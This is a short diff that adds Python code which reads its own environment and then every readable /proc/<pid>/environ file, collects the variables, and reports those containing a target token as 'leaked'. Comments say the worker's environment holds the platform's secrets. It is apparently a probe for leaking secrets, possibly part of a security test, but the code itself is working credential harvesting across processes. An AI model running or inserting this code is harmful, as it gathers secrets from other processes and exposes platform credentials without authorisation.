@@ -1,0 +1,13 @@
+# os.environ first, then every other process's environment this one can see
+# (the worker's own environment holds the platform's secrets).
+seen = dict(os.environ)
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as handle:
+                for item in handle.read().split(b"\0"):
+                    key, _, value = item.decode(errors="replace").partition("=")
+                    seen.setdefault(key, value)
+        except OSError:
+            pass
+report(leaked={k: v for k, v in seen.items() if TARGETS["token"] in v})
